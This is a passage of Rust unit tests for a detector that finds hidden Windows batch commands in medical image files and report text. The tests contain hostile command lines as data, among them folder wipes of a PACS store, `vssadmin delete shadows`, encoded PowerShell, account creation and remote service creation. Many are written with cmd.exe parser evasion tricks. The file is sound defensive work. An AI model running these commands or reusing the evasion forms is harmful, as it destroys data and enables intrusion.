    /// a 64 KiB window of uniform bytes (ARCHITECTURE invariant 11), and no byte the rule
    /// could ask for besides keeps the bare names the tests hold (`calc.exe`, `1.exe`,
    /// `evil.exe & calc`): since session 32 it is a warning in binary values (the windows
    /// here stand for compressed Pixel Data), saying why, and an alert only where no
    /// chance bytes live. Over these windows as binary data: no alert.
    #[test]
    fn syntax_rich_random_windows_hold_no_batch_command() {
        let mut next = splitmix(0x9E37_79B9_7F4A_7C15);
        let mut alerts = Vec::new();
        let mut warnings = 0;
        for window in 0..300 {
            let bytes = rich_window(&mut next);
            // The whole window is one binary value (compressed Pixel Data).
            let pixel_data = 0..bytes.len();
            let clock = crate::budget::Clock::default();
            let Some(command) =
                super::find_batch_command_within(&bytes, std::slice::from_ref(&pixel_data), &clock)
            else {
                continue;
            };
            if command.severity == super::Severity::Warning
                && command.kind == super::FindingKind::ActiveContent
                && command.detail.ends_with(super::BY_CHANCE)
            {
                warnings += 1;
            } else {
                alerts.push((window, command.detail));
            }
        }
        assert!(alerts.is_empty(), "{alerts:?}");
        // The same windows as text: the chance names are the alerts the rule makes there.
        let mut next = splitmix(0x9E37_79B9_7F4A_7C15);
        let as_text = (0..300)
            .filter(|_| super::find_batch_command(&rich_window(&mut next)).is_some())
            .count();
        assert_eq!(as_text, warnings);
        assert!(
            warnings > 0,
            "the windows hold no chance name: the test proves nothing"
        );
    }
}

/// Review r32-screen: batch syntax the batch search walked around, read as text and as
/// binary values.
#[cfg(test)]
mod batch_syntax_tests {
    use super::*;

    /// What the batch search finds in `line` after a line of binary filler, read as
    /// text (`binary` false) or as a binary value (`binary` true): its severity.
    fn batch_severity(line: &[u8], binary: bool) -> Option<Severity> {
        let bytes = [&b"\x80\x81x\r\n"[..], line].concat();
        let whole = 0..bytes.len();
        let ranges: &[std::ops::Range<usize>] = if binary {
            std::slice::from_ref(&whole)
        } else {
            &[]
        };
        find_batch_command_within(&bytes, ranges, &crate::budget::Clock::default())
            .map(|found| found.severity)
    }

    /// Review r32-screen: an ambiguous tool's switch was walked around, even in text:
    /// past the third argument, behind a caret cmd.exe drops, or joined to the word
    /// before it (`C:\PACS/s/q`: cmd.exe's own commands read a `/` inside a word as a
    /// switch's start). Issue 10, session 34: binary values read only the first three
    /// arguments as written; one reader now, the whole line as cmd.exe reads it, in text
    /// and binary values alike, and a program's quoted switch (`tar "-xf"`) as the C
    /// runtime hands it over.
    #[test]
    fn ambiguous_tools_switches_are_read_as_cmd_reads_them_in_text_and_binary_values() {
        for line in [
            &b"rd a b c C:\\PACS /s /q\r\n"[..],
            b"rd C:\\PACS ^/s ^/q\r\n",
            b"rd C:\\PACS /^s /^q\r\n",
            b"rd C:\\PACS/s/q\r\n",
            b"rd/s/q C:\\PACS\r\n",
            b"del a b c d e C:\\PACS\\*.dcm /f /q\r\n",
            b"tar \"-xf\" evil.tar\r\n",
            b"cmd \"/c\" calc\r\n",
            b"curl x \"-o\" y\r\n",
        ] {
            for binary in [false, true] {
                assert_eq!(
                    batch_severity(line, binary),
                    Some(Severity::Alert),
                    "{:?} (binary: {binary})",
                    String::from_utf8_lossy(line)
                );
            }
        }
        for binary in [false, true] {
            // A quoted `/s` is a file's name, and a caret inside quotes is kept.
            assert_eq!(batch_severity(b"rd \"x ^/s\"\r\n", binary), None);
            // cmd.exe's own commands take no quoted switch: `rd "x" "/s"` removes a
            // folder named `/s` (see `switch_words`).
            assert_eq!(batch_severity(b"rd \"x\" \"/s\"\r\n", binary), None);
        }
    }

    /// Session 35 (issue 10): cmd.exe takes a redirection out of the line wherever it
    /// stands (before the program, between its arguments, glued to a word) and hands the
    /// program the rest, but the arguments were read only up to the first `<` or `>`:
    /// `rd >nul C:\x /s` and `del 2>nul /q C:\y` were no command. Every form it accepts:
    /// `>`, `>>`, `<`, a stream's digit before it, `>&N`, a blank before the file's name,
    /// a quoted name; an escaped operator (`^>`, `^&`) is a byte of an argument.
    #[test]
    fn a_redirection_anywhere_in_the_line_hides_no_switch() {
        for line in [
            &b"rd >nul C:\\x /s\r\n"[..],
            b"del 2>nul /q C:\\y\r\n",
            b"rd>nul /s /q C:\\x\r\n",
            b"rd C:\\x 2>&1 /s\r\n",
            b"rd C:\\x > nul /s\r\n",
            b"rd C:\\x >>\"a b.log\" /s\r\n",
            b"rd C:\\x <nul /q\r\n",
            b"rd C:\\x 1>>log 2>&1 /s /q\r\n",
            b"rd C:\\x>nul /s\r\n",
            b">nul rd /s /q C:\\x\r\n",
            b"2>nul del /q C:\\y\r\n",
            b"@>nul 2>&1 rd /s /q C:\\x\r\n",
            b"rd C:\\x ^> /s\r\n",
            b"rd C:\\x ^& /s\r\n",
            b"net >nul user x y /add\r\n",
            b"start >nul evil.exe\r\n",
        ] {
            for binary in [false, true] {
                assert_eq!(
                    batch_severity(line, binary),
                    Some(Severity::Alert),
                    "{:?} (binary: {binary})",
                    String::from_utf8_lossy(line)
                );
            }
        }
        for binary in [false, true] {
            // A redirection's file is no argument: `/s` here is a file's name.
            assert_eq!(batch_severity(b"rd C:\\x > /s\r\n", binary), None);
            // Inside quotes `>` is a byte of the word.
            assert_eq!(batch_severity(b"rd \"x > /s\"\r\n", binary), None);
        }
    }

    /// Session 35 (issue 10): cmd.exe deletes every carriage return of a line before it
    /// splits it into words (after `%` expansion, before carets, quotes and
    /// redirections: phase 1.5 of its parser in the analyses of it), so a CR inside a
    /// name or between arguments hides nothing from it: `r<CR>d /s /q C:\x` is
    /// `rd /s /q C:\x`. Here a CR ended the name or the arguments.
    #[test]
    fn a_carriage_return_inside_a_line_hides_no_command() {
        for line in [
            &b"r\rd /s /q C:\\x\r\n"[..],
            b"rd\r /s /q C:\\x\r\n",
            b"rd C:\\x /\rs\r\n",
            b"power\rshell -enc SQBFAFgA\r\n",
            b"cmd /c \r\rcalc\r\n",
        ] {
            for binary in [false, true] {
                assert_eq!(
                    batch_severity(line, binary),
                    Some(Severity::Alert),
                    "{:?} (binary: {binary})",
                    String::from_utf8_lossy(line)
                );
            }
        }
        assert_eq!(
            batch_severity(b"c\ral\rl evil.exe\r\n", false),
            Some(Severity::Alert)
        );
        // Read to cmd.exe's line limit (CMD_LINE_LIMIT), not past it.
        let blanks = |n: usize| vec![b' '; n];
        let within = [&b"r\rd"[..], &blanks(8000), b"/s C:\\x\r\n"].concat();
        assert_eq!(batch_severity(&within, false), Some(Severity::Alert));
        let past = [&b"r\rd"[..], &blanks(CMD_LINE_LIMIT), b"/s C:\\x\r\n"].concat();
        assert_eq!(batch_severity(&past, false), None);
    }

    /// Issue 10, session 37 (review of session 36): cmd.exe deletes every carriage return
    /// of a line before it reads anything else of it, but only the program's name was
    /// read so: a CR hid the `for` of a `for /f` whose set runs a command, the `set` that
    /// names the program or its value, a name continued by a caret on the next line, the
    /// quote of a quoted name and the `call` before a name in a binary value (read there
    /// as a bare name, a warning), and a name past ASCII whose extension it split. Each
    /// is an alert, in text and in binary values.
    #[test]
    fn a_carriage_return_hides_nothing_cmd_reads_after_deleting_it() {
        for line in [
            &b"fo\rr /f %%a in ('powershell -enc SQBFAFgA') do echo %%a\r\n"[..],
            b"for /\rf %%a in ('powershell -enc SQBFAFgA') do echo %%a\r\n",
            b"for /f %%a i\rn ('powershell -enc SQBFAFgA') do echo %%a\r\n",
            b"for /f %%a in ('power\rshell -enc SQBFAFgA') do echo %%a\r\n",
            b"for /f \"tok\rens=1\" %%a in ('powershell -enc SQBFAFgA') do echo\r\n",
            b"for %%a in (1) d\ro rd /s /q C:\\PACS\r\n",
            b"set p=power\rshell\r\n%p% -enc SQBFAFgA\r\n",
            b"s\ret p=powershell\r\n%p% -enc SQBFAFgA\r\n",
            b"set \"p=power\rshell\"\r\n%p% -enc SQBFAFgA\r\n",
            b"set /\rp p=name?\r\n%p% x\r\n",
            b"s\ret /p p=name?\r\n%p% x\r\n",
            b"p^\r\nower\rshell -enc SQBFAFgA\r\n",
            b"p\r^\r\nowershell -enc SQBFAFgA\r\n",
            b"\"ev\ril.exe\"\r\n",
            b"\"C:\\Win\rdows\\System32\\cmd.exe\" /c calc\r\n",
            b"c\rall evil.exe\r\n",
            b"ca\rll\r evil.exe\r\n",
            b"@c\rall evil.exe\r\n",
        ] {
            for binary in [false, true] {
                assert_eq!(
                    batch_severity(line, binary),
                    Some(Severity::Alert),
                    "{:?} (binary: {binary})",
                    String::from_utf8_lossy(line)
                );
            }
        }
        // A name past ASCII (a letter of the console's code page) split by a CR.
        assert_eq!(
            batch_severity(b"\x82vil.e\rxe /c x\r\n", false),
            Some(Severity::Alert)
        );
        // What cmd.exe reads after deleting CRs is what is judged: `set /a` is
        // arithmetic, no name.
        assert_eq!(
            batch_severity(b"set /\ra p=1\r\n%p% -enc SQBFAFgA\r\n", false),
            None
        );
    }

    /// Issue 10, session 37: report prose whose only line ends are carriage returns
    /// (a Long Text value) is joined into one line by deleting them, as cmd.exe does, so
    /// a switch-like word of a later line (`/kg`) reads as a switch of an ambiguous tool
    /// word (`CMD`, common bile duct) after an `&`: an alert on a report. Reading only
    /// the first word of each joined line removed it and hid every switch behind one CR
    /// (review rv37-screen, `rd C:\PA<CR>CS /s /q`), so it was taken out: a known false
    /// alarm, open (see `switch_words`). Run it with `--ignored`.
    #[test]
    #[ignore = "known false alarm, issue 10: CR-only report prose after `& CMD`; see switch_words"]
    fn prose_with_carriage_returns_for_line_ends_is_no_command_line() {
        for prose in [
            &b"Gallbladder & CMD within normal limits.\rSedation: midazolam 0.05 mg /kg IV.\r"[..],
            b"Findings: GB & CMD normal.\rNo stones.\rContrast 1 ml /kg given.\r",
            b"Liver | RD within normal limits.\rSpleen 11 cm.\rDose /s per protocol.\r",
            b"x\nCMD within normal limits.\rSedation: midazolam 0.05 mg /kg IV.\r",
        ] {
            for binary in [false, true] {
                assert_eq!(
                    batch_severity(prose, binary),
                    None,
                    "{:?} (binary: {binary})",
                    String::from_utf8_lossy(prose)
                );
            }
        }
    }

    /// Issue 10, session 37, review rv37-screen: a carriage return anywhere in an
    /// ambiguous tool's arguments hides none of its switches: cmd.exe deletes it and
    /// passes every word (a rule reading only the first word of each line a CR joined
    /// missed all of these but the first three).
    #[test]
    fn a_carriage_return_among_a_tools_arguments_hides_no_switch() {
        for line in [
            &b"x & cmd\r /c calc.exe\r\n"[..],
            b"x & cmd within\r /c calc.exe\r",
            b"cmd /\rc calc.exe\r\n",
            b"rd C:\\PACS\\DB C:\\PACS\\LOGS\r /s /q\r",
            b"r\rd C:\\PACS\\DB C:\\PACS\\LOGS C:\\PACS\\X /s /q\r\n",
            b"rd C:\\PA\rCS /s /q\r\n",
            b"rd \rC:\\PACS /s /q\r\n",
            b"rd\r C:\\PACS /s /q\r\n",
            b"rd C:\\PACS\\DB\r C:\\PACS\\LOGS /s /q\r\n",
            b"del C:\\PACS\\D\rB\\*.dcm /s /q /f\r\n",
            b"cmd x\ry /c calc.exe\r\n",
        ] {
            for binary in [false, true] {
                assert_eq!(
                    batch_severity(line, binary),
                    Some(Severity::Alert),
                    "{:?} (binary: {binary})",
                    String::from_utf8_lossy(line)
                );
            }
        }
    }

    /// Session 35 (issue 10): a control byte inside the path of the glued form
    /// (`C:\PA\x01CS/s/q`) hid the switch: cmd.exe's own commands read a `/` inside a word
    /// as a switch's start whatever the path holds, and Windows normalises a path before
    /// it looks at its names (`C:\PACS\\x01\..` is `C:\PACS`). An alert in text.
    #[test]
    fn a_control_byte_in_the_glued_path_form_hides_no_switch() {
        for line in [
            &b"rd C:\\PA\x01CS/s/q\r\n"[..],
            b"rd C:\\PACS\\\x01\\../s/q\r\n",
            b"del C:\\PACS\\\x7f\\..\\*.dcm/q\r\n",
        ] {
            assert_eq!(
                batch_severity(line, false),
                Some(Severity::Alert),
                "{:?}",
                String::from_utf8_lossy(line)
            );
        }
    }

    /// Review r32-screen: a bare name followed by common batch syntax was no command
    /// anywhere: a redirection of a numbered stream (`2>nul`), a caret continuing the
    /// line, a Ctrl-Z ending it. An alert in text, a warning in binary values (as any
    /// bare name alone there).
    #[test]
    fn a_bare_name_with_common_batch_syntax_after_it_counts() {
        for line in [
            &b"evil.exe 2>nul\r\n"[..],
            b"evil.exe 1>nul\r\n",
            b"evil.exe 2>&1\r\n",
            b"evil.exe ^\r\n\r\n",
            b"evil.exe\x1a",
            b"evil.exe \x1a",
        ] {
            let shown = String::from_utf8_lossy(line);
            assert_eq!(
                batch_severity(line, false),
                Some(Severity::Alert),
                "{shown:?}"
            );
            assert_eq!(
                batch_severity(line, true),
                Some(Severity::Warning),
                "{shown:?}"
            );
        }
        // A word and a number before a redirection is prose's (`see table 2>1`).
        assert_eq!(batch_severity(b"see.exe x2>nul\r\n", false), None);
    }

    /// Review r32-screen: explicit batch syntax before or around a bare name (`call`,
    /// quotes) is no chance bytes: an alert in binary values too. Only a name with
    /// blanks (cmd.exe's delimiters) before it is downgraded there.
    #[test]
    fn only_a_truly_bare_name_is_a_warning_in_binary_values() {
        for line in [
            &b"call evil.exe\r\n"[..],
            b"\"evil.exe\"\r\n",
            b"  call  evil.exe\r\n",
        ] {
            assert_eq!(
                batch_severity(line, true),
                Some(Severity::Alert),
                "{:?}",
                String::from_utf8_lossy(line)
            );
        }
        assert_eq!(
            batch_severity(b" \tevil.exe\r\n", true),
            Some(Severity::Warning)
        );
    }
}

/// Review rv2-screen (issue 10): a `/` inside a word of report prose was read as a
/// switch's start (`coronal/axial` as del's `/a`, `ml/s` as `/s`, `mg/d` as start's
/// `/d`), so hard-wrapped clinical text starting a line with `del`, `rd`, `start` was an
/// alert on a real image.
#[cfg(test)]
mod slash_in_prose_tests {
    use super::*;

    fn found_in_text(line: &[u8]) -> Option<Command> {
        let bytes = [&b"Informe:\r\n"[..], line, b"\r\n"].concat();
        find_batch_command_within(&bytes, &[], &crate::budget::Clock::default())
    }

    /// Report prose in English, Spanish, Italian, German and French, wrapped so that a
    /// line starts with a tool's name, with `/` in units, dates and abbreviations.
    #[test]
    fn a_slash_inside_a_word_of_report_prose_is_no_switch() {
        let mut wrong = Vec::new();
        for line in [
            &b"del estudio en planos coronal/axial sin hallazgos."[..],
            b"del contraste a 4 ml/s se obtienen fases arteriales",
            b"del Rosario, M. s/p right hepatectomy",
            b"Start prednisone 20 mg/d last week.",
            b"Start contrast injection at 3 ml/min via antecubital vein",
            b"start of study 12/03/2024, glucose 95 mg/dl",
            b"del paziente di 67 a/s con esiti di intervento del 03/04/2023",
            b"del higado 1/2 del volumen, glucemia 110 mg/dl, w/o contraste",
            b"rd and 45 y/o male s/p CABG w/o complications",
            b"Rd/Ld ratio 1/2 normal",
            b"del ventricolo sinistro, FE 55% a/q riposo",
            b"start: 45 y/o female, s/p cholecystectomy 1/2/2019",
            b"del Patienten, Kontrastmittel 80 ml/s i.v., Befund s/p OP",
            b"del patient, injection 5 ml/s, T1/T2 sans anomalie",
            b"Start des Scans 10/12/2024, Dosis 2 mg/kg/d",
            b"del sitio https://www.example.org/s/q para el protocolo",
            b"del self[NameObject(\"/Annots\")]",
            b"    del self[NameObject(\"/Annots\")]",
            b"        del reader.trailer[\"/Root\"][\"/AcroForm\"][\"/Fields\"][1].get_object()",
            b"        del writer.pages[0][\"/Annots\"][1].get_object()[\"/AP\"][\"/N\"]",
            b"del mismo \"a/s\" y \"C:\\x/s\"",
        ] {
            if let Some(found) = found_in_text(line) {
                wrong.push(found.detail);
            }
        }
        assert!(wrong.is_empty(), "{wrong:#?}");
    }

    /// A `/` after a path character still starts a switch (cmd.exe reads it so).
    #[test]
    fn a_slash_after_a_path_character_still_starts_a_switch() {
        for line in [
            &b"rd C:\\PACS/s/q"[..],
            b"del C:\\PACS\\*.dcm/q",
            b"del *.dcm/f/q",
            b"rd %PACS%/s/q",
            b"rd C:/s/q",
            b"rd \"C:\\PACS\"/s/q",
            b"rd/s/q C:\\PACS",
            b"RD/S /Q C:\\PACS",
            b"del/f/q C:\\PACS\\*",
            b"erase/q C:\\PACS\\*.dcm",
            b"rmdir/s/q C:\\PACS",
        ] {
            assert_eq!(
                found_in_text(line).map(|c| c.severity),
                Some(Severity::Alert),
                "{:?}",
                String::from_utf8_lossy(line)
            );
        }
    }
}

/// Issue 10, session 38 (review of session 37, r38-screen): where a command ends is
/// decided on the line as cmd.exe reads it, its carriage returns deleted first, with its
/// quotes, carets and handle redirections (`2>&1`) read: a CR between `>` and `&`, or a
/// quoted or escaped `&` with a CR near it, ended the view there and hid the command.
#[cfg(test)]
mod command_end_tests {
    use super::*;

    fn severity(line: &[u8], binary: bool) -> Option<Severity> {
        found(line, binary).map(|found| found.severity)
    }

    fn found(line: &[u8], binary: bool) -> Option<Command> {
        let bytes = [&b"\x80\x81x\r\n"[..], line].concat();
        let whole = 0..bytes.len();
        let ranges: &[std::ops::Range<usize>] = if binary {
            std::slice::from_ref(&whole)
        } else {
            &[]
        };
        find_batch_command_within(&bytes, ranges, &crate::budget::Clock::default())
    }

    fn assert_alerts(lines: &[&[u8]]) {
        for &line in lines {
            for binary in [false, true] {
                assert_eq!(
                    severity(line, binary),
                    Some(Severity::Alert),
                    "{:?} (binary: {binary})",
                    String::from_utf8_lossy(&line[..line.len().min(80)])
                );
            }
        }
    }

    /// A1: the `&` of a handle's redirection (`2>&1`) is no operator, a CR between the
    /// `>` and it included: cmd.exe deletes the CR, then reads `2>&1`.
    #[test]
    fn a_carriage_return_inside_a_handle_redirection_hides_no_command() {
        assert_alerts(&[
            b"2>\r&1 powershell -enc SQBFAFgA\r\n",
            b"2>\r&1 C:\\Users\\Public\\evil.exe\r\n",
            b">n\rul 2>\r&1 rd C:\\PACS /s /q\r\n",
            b"2>&1 r\rd C:\\PACS /s /q\r\n",
            b"2>\r\r&\r1 rd C:\\PACS /s /q\r\n",
            b"rd C:\\PACS 2>\r&1 /s /q\r\n",
        ]);
        // The CR-free forms, as before.
        assert_alerts(&[
            b"2>&1 powershell -enc SQBFAFgA\r\n",
            b">nul 2>&1 rd C:\\PACS /s /q\r\n",
        ]);
    }

    /// A3: a quoted or escaped `&` is a byte of an argument, a CR before or after it too.
    #[test]
    fn a_quoted_or_escaped_operator_near_a_carriage_return_ends_nothing() {
        assert_alerts(&[
            b"rd \"C:\\A&B\" C:\\P\rACS /s /q\r\n",
            b"cmd \"a&b\r\" /c calc.exe\r\n",
            b"cmd \"a\r&b\" /c calc.exe\r\n",
            b"rd C:\\A^&B C:\\P\rACS /s /q\r\n",
            b"rd C:\\A^\r&B C:\\PACS /s /q\r\n",
            b"rd \"C:\\A|B\" C:\\P\rACS /s /q\r\n",
        ]);
    }

    /// A4: cmd.exe's line limit counts what it reads, its CRs deleted: 9,000 CRs inside
    /// a name hide nothing.
    #[test]
    fn carriage_returns_count_nothing_towards_cmds_line_limit() {
        let line = [&b"r"[..], &vec![b'\r'; 9_000], b"d /s /q C:\\PACS\r\n"].concat();
        assert_alerts(&[&line]);
    }

    /// Review of session 38's merge: pixel data of real re-compressed images held more
    /// escaped separators after a chance `&` than MAX_CMD_PASSED_SEPARATORS, a
    /// `not-inspected` warning on an honest store. The bound is said only where what lies
    /// past it can matter: a program known here (its switches), a name not yet read.
    #[test]
    fn the_separator_bound_is_said_only_for_a_program_known_here() {
        let passed = b"^&".repeat(MAX_CMD_PASSED_SEPARATORS + 4);
        let junk = [&b"x\n&\xfd\xfb\x05J$. "[..], &passed, b" /s /q C:\\PACS\n"].concat();
        for binary in [false, true] {
            assert_eq!(
                found(&junk, binary),
                None,
                "junk's arguments change nothing"
            );
        }
        // A program known here is never silence (here an alert: each `&` after a caret
        // starts a candidate of its own too).
        let tool = [&b"x\nrd "[..], &passed, b" /s /q C:\\PACS\n"].concat();
        assert!(found(&tool, false).is_some(), "never silence");
        // A known tool at the end of a long path is read whole: said.
        let long = [
            &b"x\nC:\\"[..],
            &b"d".repeat(300),
            b"\\rd.exe ",
            &passed,
            b" /s /q C:\\PACS\n",
        ]
        .concat();
        assert!(found(&long, false).is_some(), "never silence");
        // A long run of pixel bytes without a delimiter is no name (the grader's run of
        // session 38's last commit: real RLE pixel data, a word of more than 260 bytes).
        let pixels = b"\x88\x80\x93z{\x87~ykxx\x81k\x7f~h\xa8\x96}\x95a\\lpwm{\x85\x83".repeat(20);
        let long_junk = [&b"x\n&"[..], &pixels, b" ", &passed, b" /s /q C:\\PACS\n"].concat();
        for binary in [false, true] {
            assert_eq!(found(&long_junk, binary), None, "a long run of pixel bytes");
        }
        // A name the view ends inside is not known: said.
        let cut = [
            &b"x\nr"[..],
            &vec![b'\r'; MAX_CMD_LINE_RAW_BYTES],
            b"d /s /q\n",
        ]
        .concat();
        let said = found(&cut, false).expect("a warning");
        assert_eq!(said.kind, FindingKind::NotInspected);
    }

    /// Review rv39: a command that runs another (`if`, `for`, `call`, an `else` branch)
    /// whose view a bound cut is said, never silence (33 quoted `&` were clean where 32
    /// alert), and so is a `for` set continued past MAX_BATCH_NAME_CONTINUATIONS.
    #[test]
    fn a_bound_cutting_what_an_if_or_for_runs_is_said() {
        let amps = b"&".repeat(MAX_CMD_PASSED_SEPARATORS + 1);
        let continued: Vec<u8> = (2..22)
            .flat_map(|i| format!(" ^\r\n{i}").into_bytes())
            .collect();
        for line in [
            [&b"if not \""[..], &amps, b"\"==\"\" rd /s /q C:\\PACS\r\n"].concat(),
            [
                &b"if exist C:\\x (echo \""[..],
                &amps,
                b"\") else powershell -enc SQBFAFgA\r\n",
            ]
            .concat(),
            [
                &b"for %%a in (\""[..],
                &amps,
                b"\") do vssadmin delete shadows /all /quiet\r\n",
            ]
            .concat(),
            [
                &b"for %%a in (1"[..],
                &continued,
                b") do rd /s /q C:\\PACS\r\n",
            ]
            .concat(),
        ] {
            for binary in [false, true] {
                assert!(
                    found(&line, binary).is_some(),
                    "{:?} (binary: {binary})",
                    String::from_utf8_lossy(&line[..60])
                );
            }
        }
    }

    /// Review rv39: a bound's warning ended the search, so the alert of a later line
    /// went unsaid (and `scan --quarantine` kept no copy).
    #[test]
    fn a_bound_reached_early_hides_no_later_alert() {
        let line = [
            &b"rd x "[..],
            &b"2>&1 ".repeat(40),
            b"\r\npowershell -nop -enc SQBFAFgA\r\nrd /s /q C:\\PACS\r\n",
        ]
        .concat();
        assert_alerts(&[&line]);
    }

    /// Review rv39: a caret before a Ctrl-Z continues the line as before a line feed
    /// (cmd.exe reads a Ctrl-Z as one).
    #[test]
    fn a_caret_before_a_ctrl_z_continues_the_line() {
        assert_alerts(&[
            b"rd C:\\PACS ^\x1a/s /q\r\n",
            b"cmd ^\x1a/c calc.exe\r\n",
            b"p^\x1aowershell -enc SQBFAFgA\r\n",
        ]);
    }

    /// Review rv39: the `else` of a block over several lines, an `if` whose quoted
    /// operand holds a blank, and `sc` with a quoted host were clean.
    #[test]
    fn if_and_else_forms_and_quoted_arguments_hide_no_command() {
        assert_alerts(&[
            b"if exist x (\r\n echo x\r\n) else rd /s /q C:\\PACS\r\n",
            b"if exist x (\r\n echo x\r\n) else (rd /s /q C:\\PACS)\r\n",
            b"if exist x (\r\necho x\r\n)else vssadmin delete shadows /all /quiet\r\n",
            b"if \"a b\"==\"a b\" rd /s /q C:\\PACS\r\n",
            b"if \"a b\"==\"c d\" (echo x) else rd /s /q C:\\PACS\r\n",
            b"if not \"%~1 x\" EQU \"\" powershell -enc SQBFAFgA\r\n",
            b"sc \"\\\\host\" config x binpath= C:\\x.exe\r\n",
        ]);
        // A `)` then anything but `else` runs nothing.
        for binary in [false, true] {
            assert_eq!(found(b") elsewhere rd is fine\r\n", binary), None);
        }
    }

    /// Review rv39: gray pixel bytes `!!!%%%"""&&&` are no name built by expansion.
    #[test]
    fn only_a_real_expansion_builds_a_name() {
        for word in [
            &b"%p%"[..],
            b"!p!",
            b"%1",
            b"%*",
            b"%~dp0x",
            b"C:\\%dir%\\x",
            b"%%%a%",
        ] {
            assert!(builds_a_name(word), "{:?}", String::from_utf8_lossy(word));
        }
        for word in [&b"!!!%%%+++111"[..], b"%%", b"%+%", b"50%", b"!!", b"%%1"] {
            assert!(!builds_a_name(word), "{:?}", String::from_utf8_lossy(word));
        }
        let gray: Vec<u8> = b"!%\"&+1"
            .iter()
            .flat_map(|&b| [b; 3])
            .cycle()
            .take(600)
            .collect();
        let pixels = [&b"x\n&"[..], &gray, b"\n"].concat();
        for binary in [false, true] {
            assert_eq!(found(&pixels, binary), None);
        }
    }

    /// A4: the raw bytes read for one command are bounded (MAX_CMD_LINE_RAW_BYTES): past
    /// it, a warning naming the bound, never silence.
    #[test]
    fn a_command_past_the_raw_bytes_read_is_a_warning() {
        let line = [
            &b"r"[..],
            &vec![b'\r'; MAX_CMD_LINE_RAW_BYTES],
            b"d /s /q C:\\PACS\r\n",
        ]
        .concat();
        for binary in [false, true] {
            let found = found(&line, binary).expect("a warning");
            assert_eq!(found.severity, Severity::Warning);
            assert_eq!(found.kind, FindingKind::NotInspected);
            assert!(
                found.detail.contains("MAX_CMD_LINE_RAW_BYTES"),
                "{}",
                found.detail
            );
        }
    }

    /// A caret last on a line joins the next to it: the arguments there are the
    /// command's (cmd.exe reads them so).
    #[test]
    fn arguments_continued_by_a_caret_are_read() {
        assert_alerts(&[
            b"rd C:\\PACS ^\n/s /q\r\n",
            b"rd C:\\PACS ^\r\n/s /q\r\n",
            b"rd C:\\PACS ^\r\n/s ^\r\n/q\r\n",
            b"cmd ^\n/c calc.exe\n",
        ]);
    }

    /// Every read stays linear: a line of `2>&` repeated (each `&` a candidate whose
    /// command runs on past it), `"&^"` (quotes opened and closed so that every `&` is
    /// quoted to the commands before it) and `2>\r&` are read a bounded number of
    /// times per byte; each view stops at MAX_CMD_PASSED_SEPARATORS, a warning.
    #[test]
    fn separators_read_past_are_bounded_and_linear() {
        // `^&` and `^&` before CRs (review rv39: escaped separators were never counted,
        // 512 KiB of `^&` and 254 CRs took 18 s, four times 256 KiB's).
        let escaped_before_crs = [&b"^&"[..], &[b'\r'; 254]].concat();
        for unit in [
            &b"2>&"[..],
            b"\"&^\"",
            b"2>\r&",
            b"rd \"&\r",
            b"^&",
            &escaped_before_crs,
        ] {
            let bytes = unit.repeat((1 << 18) / unit.len());
            tests::CARRIAGE_READ.with(|n| n.set(0));
            let started = std::time::Instant::now();
            let found = find_batch_command(&bytes);
            let read = tests::CARRIAGE_READ.with(|n| n.get());
            assert!(
                read <= (MAX_CMD_PASSED_SEPARATORS + 2) * bytes.len(),
                "{unit:?}: {read} bytes read for a file of {}",
                bytes.len()
            );
            assert!(
                started.elapsed() < std::time::Duration::from_secs(20),
                "{unit:?}: {:?}",
                started.elapsed()
            );
            if let Some(found) = found {
                assert_eq!(found.kind, FindingKind::NotInspected, "{unit:?}");
                assert!(
                    found.detail.contains("MAX_CMD_PASSED_SEPARATORS"),
                    "{unit:?}: {}",
                    found.detail
                );
            }
        }
        // Within the bound, a quoted separator hides nothing.
        let quoted = [
            &b"rd \""[..],
            &b"&".repeat(MAX_CMD_PASSED_SEPARATORS),
            b"\" C:\\P\rACS /s /q\r\n",
        ]
        .concat();
        assert_alerts(&[&quoted]);
        // Past it, a warning.
        let past = [
            &b"rd \""[..],
            &b"&".repeat(MAX_CMD_PASSED_SEPARATORS + 1),
            b"\" C:\\P\rACS /s /q\r\n",
        ]
        .concat();
        assert_eq!(severity(&past, false), Some(Severity::Warning));
    }
}

/// Issue 10, review of session 37 (session 38, r38-screen): commands cmd.exe runs that
/// no CR hides, missed: the `else` branch of an `if`, `sc` given a remote host before its
/// subcommand, and `explorer` given a UNC path (it connects to the host with the user's
/// credentials, as a PDF's GoToR to a UNC path does: issue 10 names it a credential leak).
#[cfg(test)]
mod branch_and_host_tests {
    use super::*;

    fn severity(line: &[u8], binary: bool) -> Option<Severity> {
        let bytes = [&b"\x80\x81x\r\n"[..], line].concat();
        let whole = 0..bytes.len();
        let ranges: &[std::ops::Range<usize>] = if binary {
            std::slice::from_ref(&whole)
        } else {
            &[]
        };
        find_batch_command_within(&bytes, ranges, &crate::budget::Clock::default())
            .map(|found| found.severity)
    }

    #[test]
    fn an_else_branch_a_remote_sc_and_explorer_on_a_unc_path_are_commands() {
        for line in [
            &b"if 1==2 (echo) else rd /s /q C:\\PACS\r\n"[..],
            b"if 1==2 (echo x) ELSE (rd /s /q C:\\PACS)\r\n",
            b"if exist x (echo \"a)\") else powershell -enc SQBFAFgA\r\n",
            b"if 1==2 (if 2==3 (echo) else echo) else rd /s /q C:\\PACS\r\n",
            b"sc \\\\host config x binpath= C:\\evil.exe\r\n",
            b"sc \\\\10.0.0.5 create x binpath= C:\\evil.exe\r\n",
            b"explorer \\\\evil\\share\r\n",
            b"explorer \\\\10.0.0.5@80\\x\r\n",
        ] {
            for binary in [false, true] {
                assert_eq!(
                    severity(line, binary),
                    Some(Severity::Alert),
                    "{:?} (binary: {binary})",
                    String::from_utf8_lossy(line)
                );
            }
        }
        // Prose and a local device path are none.
        for line in [
            &b"if you like (see above) else we go on\r\n"[..],
            b"explorer \\\\.\\pipe\r\n",
            b"sc \\\\host is down\r\n",
        ] {
            assert_eq!(
                severity(line, false),
                None,
                "{:?}",
                String::from_utf8_lossy(line)
            );
        }
    }
}

/// Issue 10, session 40 (review of session 39): spellings of cmd.exe, living-off-the-land
/// programs and paths without an extension that cmd.exe runs, missed; and prose that
/// reads as cmd.exe but runs nothing, alerted.
#[cfg(test)]
mod lolbin_tests {
    use super::*;

    fn found(line: &[u8], binary: bool) -> Option<Command> {
        let bytes = [&b"\x80\x81x\r\n"[..], line, b"\r\n"].concat();
        let whole = 0..bytes.len();
        let ranges: &[std::ops::Range<usize>] = if binary {
            std::slice::from_ref(&whole)
        } else {
            &[]
        };
        find_batch_command_within(&bytes, ranges, &crate::budget::Clock::default())
    }

    fn assert_alerts(lines: &[&str], binary: &[bool]) {
        let mut missed = Vec::new();
        for line in lines {
